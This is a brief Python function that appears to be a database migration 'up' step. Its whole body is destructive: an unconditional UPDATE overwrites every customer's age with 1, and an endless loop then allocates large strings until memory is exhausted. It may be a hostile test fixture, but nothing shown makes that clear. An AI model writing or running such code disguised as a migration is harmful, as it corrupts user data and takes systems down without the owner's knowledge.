def up(db):
    db.execute("UPDATE customer SET age = 1")
    held = []
    while True:
        held.append("x" * 100000)
